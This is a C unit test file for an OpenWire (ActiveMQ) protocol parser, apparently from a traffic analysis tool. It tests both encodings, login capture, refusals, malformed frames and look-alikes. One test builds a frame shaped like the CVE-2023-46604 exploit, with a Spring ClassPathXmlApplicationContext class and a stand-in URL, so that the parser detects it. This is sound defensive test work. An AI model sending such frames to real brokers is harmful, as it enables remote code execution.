/* SPDX-License-Identifier: Apache-2.0
 *
 * OpenWire: both encodings, remembered names, logins, exceptions, look-alikes.
 */
#include "support/conversation.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdlib.h>

#include <cmocka.h>

#define LINES(...) ((const char *const[]){__VA_ARGS__, NULL})
#define TURNS(...) ((const struct turn[]){__VA_ARGS__, {0}})

static uint8_t arena[1 << 16];
static size_t arena_used;

static struct turn framed(enum turn_who who, uint8_t type, struct span body)
{
    uint8_t *p = arena + arena_used;

    assert_true(arena_used + body.n + 5 <= sizeof(arena));
    p[0] = 0;
    p[1] = (uint8_t)((body.n + 1) >> 16);
    p[2] = (uint8_t)((body.n + 1) >> 8);
    p[3] = (uint8_t)(body.n + 1);
    p[4] = type;
    memcpy(p + 5, body.p, body.n);
    arena_used += body.n + 5;
    return (struct turn){who, (const char *)p, body.n + 5, 0};
}

#define C(type, literal) framed(TURN_CLIENT, type, SPAN(literal))
#define S(type, literal) framed(TURN_SERVER, type, SPAN(literal))

static void speaks(const struct turn *turns, const char *const *expect)
{
    const struct conversation c = {.server_port = 40000, .turns = turns, .expect = expect};

    conversation_check(&c);
    arena_used = 0;
}

static void speaks_once(const struct turn *turns, const char *const *expect)
{
    const struct conversation c = {.server_port = 40000, .turns = turns, .expect = expect};

    conversation_check_once(&c, CUT_TURNS);
    arena_used = 0;
}

/* Options: two booleans, name and version of the provider, a number. */
#define INFO(tight, version)                                                                       \
    "ActiveMQ\0\0\0" version "\1\0\0\0\x6c\0\0\0\5\0\x14TightEncodingEnabled\1" tight "\0\x0c"     \
    "CacheEnabled\1" tight "\0\x0cProviderName\x09\0\x08"                                          \
    "ActiveMQ"                                                                                     \
    "\0\x0fProviderVersion\x09\0\3"                                                                \
    "5.1\0\x09"                                                                                    \
    "CacheSize\5\0\0\4\0"
#define TX_LOGIN                                                                                   \
    "tx openwire version=12 client.provider=ActiveMQ client.version=5.1 version=12 "               \
    "server.provider=ActiveMQ server.version=5.1 stack_trace=false client_id=till-7 user=amy"
#define HELLOS(tight) C(1, INFO(tight, "\x0c")), S(1, INFO(tight, "\x0c"))

#define TIGHT_CONNECTION "\3\xff\x67\0\0\0\0\1\0\0x\0\4conn\0\6till-7\0\6secret\0\3amy"
#define TIGHT_CONSUMER                                                                             \
    "\4\x5f\x7d\3\0\0\0\0\4\0\4z\0\4conn\0\1\0\1\0\5d\0\6orders\0\0\3\xe8\0\0\0\0\0\6till-7\0"
#define TIGHT_PRODUCER "\2\x5f\1\0\0\0\5\0\6{\0\4conn\0\1\0\1\0\5\0\0\0\0"
#define TIGHT_TEXT                                                                                 \
    "\5I\4\xb1\0\0\0\0\0\6\0\6\0\5\0\7\0\7n\0\6\0\1\0\7\0\0\0\0\4\0\0\1\xa2\6RK\xdf"               \
    "\0\0\0\x0e\0\0\0\x0atwo apples\0\7\0\0\0\0"
#define TIGHT_RESPONSE "\1\0\0\0\0\0\0\0\0\1"

static void reads_the_tight_encoding(void **state)
{
    (void)state;
    speaks(TURNS(HELLOS("\1"), C(3, TIGHT_CONNECTION), S(30, TIGHT_RESPONSE), C(5, TIGHT_CONSUMER),
                 C(6, TIGHT_PRODUCER), C(28, TIGHT_TEXT), C(10, "\1\0\0\0\0\7"),
                 C(11, "\1\0\0\0\0\x08")),
           LINES("app openwire", "proof certain", "server activemq", TX_LOGIN,
                 "tx openwire command=ConsumerInfo destination=orders",
                 "tx openwire command=ProducerInfo destination=orders",
                 "tx openwire command=ActiveMQTextMessage destination=orders body_size=14",
                 "buffer body \\x00\\x00\\x00\\ntwo apples"));
}

#define LOOSE_CONNECTION "\0\0\0\1\1\1x\1\0\4conn\1\0\6till-7\1\0\6secret\1\0\3amy\0\0\0\0"
#define LOOSE_CONSUMER                                                                             \
    "\0\0\0\2\1\1z\1\0\4conn\0\0\0\0\0\0\0\1\0\0\0\0\0\0\0\1\0\1d\1\0\6orders\0\0\0\0"
#define LOOSE_BYTES                                                                                \
    "\0\0\0\3\0\1{\1\0\4conn\0\0\0\0\0\0\0\1\0\0\0\0\0\0\0\1\1d\1\0\6orders\0\0"                   \
    "\1n\0\1{\1\0\4conn\0\0\0\0\0\0\0\1\0\0\0\0\0\0\0\1\0\0\0\0\0\0\0\1\0\0\0\0\0\0\0\2"           \
    "\0\0\0\0\0\0\0\1\0\0\0\0\0\0\0\0\4\0\0\0\0\0\0\0\0\0\0\1\0\0\0\5hello\0\0"

static void reads_the_loose_encoding(void **state)
{
    (void)state;
    speaks(TURNS(HELLOS("\0"), C(3, LOOSE_CONNECTION), S(30, "\0\0\0\0\0\0\0\0\1"),
                 C(5, LOOSE_CONSUMER), C(24, LOOSE_BYTES),
                 S(21, "\0\0\0\0\0\1z\1\0\4conn\0\0\0\0\0\0\0\1\0\0\0\0\0\0\0\1\1d\1\0\6orders\1"
                       "\x18" LOOSE_BYTES "\0\0\0\0")),
           LINES("app openwire", TX_LOGIN, "tx openwire command=ConsumerInfo destination=orders",
                 "tx openwire command=ActiveMQBytesMessage destination=orders body_size=5",
                 "buffer body hello"));
}

static void notes_refusals(void **state)
{
    const struct conversation c = {
        .turns = TURNS(HELLOS("\1"), C(3, TIGHT_CONNECTION),
                       S(31, "\1\x3e\0\0\0\0\0\0\0\1\0\x1bjava.lang.SecurityException\0\2no")),
        .expect = LINES(TX_LOGIN " command=ExceptionResponse "
                                 "exception.class=java.lang.SecurityException "
                                 "exception.message=no",
                        "note ActiveMQ refuses the login: amy")};
    char *outcome = conversation_play(&c, CUT_TURNS, 0);

    (void)state;
    assert_null(strstr(outcome, "secret"));
    free(outcome);
    conversation_check(&c);
    arena_used = 0;
}

#define CONTEXT                                                                                    \
    "org.springframework.context.support.ClassPathXmlApplicationContext" /* 66 letters */

/* The attack begins without introducing itself. */
static void notes_the_spring_context(void **state)
{
    (void)state;
    speaks(TURNS(S(1, INFO("\1", "\x0c")),
                 C(31, "\0\0\0\0\0\0\0\0\0\1\1\0\x42" CONTEXT "\1\0\x08http://a")),
           LINES("app openwire",
                 "note OpenWire exception of a Spring context (CVE-2023-46604): "
                 "org.springframework.context.support.ClassPathXml*",
                 "tx openwire command=ExceptionResponse exception.class=" CONTEXT
                 " exception.message=http://a"));
}

static void reads_one_side(void **state)
{
    (void)state;
    speaks(TURNS(C(1, INFO("\1", "\x0c")), C(3, TIGHT_CONNECTION), C(5, TIGHT_CONSUMER)),
           LINES("app openwire", "proof certain",
                 "tx openwire command=ConsumerInfo destination=orders"));
    speaks(TURNS(S(1, INFO("\1", "\x09"))),
           LINES("app openwire", "proof certain", "tx openwire version=9*"));
}

static void passes_what_it_cannot_read(void **state)
{
    static char junk[70000];

    (void)state;
    speaks(TURNS(HELLOS("\1"), C(3, "\x40"), C(5, "\2\xff\xff\0\0\0\1\0\1\xff\xff\xff\xff\xff"),
                 C(28, "\3\xff\xff\xff\0"), C(21, "\2\x0a\0\0\0\0\1\0\2\0\3\xff"),
                 C(31, "\1\1\0\0\0\0"), C(5, TIGHT_CONSUMER)),
           LINES("app openwire", "tx openwire command=ConsumerInfo destination=orders"));
    speaks_once(TURNS(HELLOS("\1"), C(3, TIGHT_CONNECTION), CLIENT("\0\1\x11\x71\x18"),
                      CLIENT_BYTES(junk, sizeof(junk)), C(5, TIGHT_CONSUMER)),
                LINES("tx openwire command=ConsumerInfo destination=orders"));
}

static void finds_its_way_after_a_loss(void **state)
{
    (void)state;
    speaks_once(TURNS(HELLOS("\1"), C(3, TIGHT_CONNECTION), S(30, TIGHT_RESPONSE), CLIENT_LOST(50),
                      CLIENT("the end of a text"), C(5, TIGHT_CONSUMER)),
                LINES(TX_LOGIN, "tx openwire command=ConsumerInfo destination=orders"));
}

static void refuses_look_alikes(void **state)
{
    (void)state;
    speaks(TURNS(C(1, INFO("\1", "\x0d"))), LINES("!app openwire"));
    speaks(TURNS(C(1, INFO("\1", "\0"))), LINES("!app openwire"));
    speaks(TURNS(C(1, "ActiveMX\0\0\0\1\0")), LINES("!app openwire"));
    speaks(TURNS(C(2, INFO("\1", "\x0c"))), LINES("!app openwire"));
    speaks(TURNS(C(3, TIGHT_CONNECTION)), LINES("!app openwire"));
    speaks(TURNS(C(1, "ActiveMQ\0\0\0\x0c\1\0\0\0\x08\0\0\xff\xff\0\1a\1")),
           LINES("!app openwire"));
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(reads_the_tight_encoding),
        cmocka_unit_test(reads_the_loose_encoding),
        cmocka_unit_test(notes_refusals),
        cmocka_unit_test(notes_the_spring_context),
        cmocka_unit_test(reads_one_side),
        cmocka_unit_test(passes_what_it_cannot_read),
        cmocka_unit_test(finds_its_way_after_a_loss),
        cmocka_unit_test(refuses_look_alikes),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
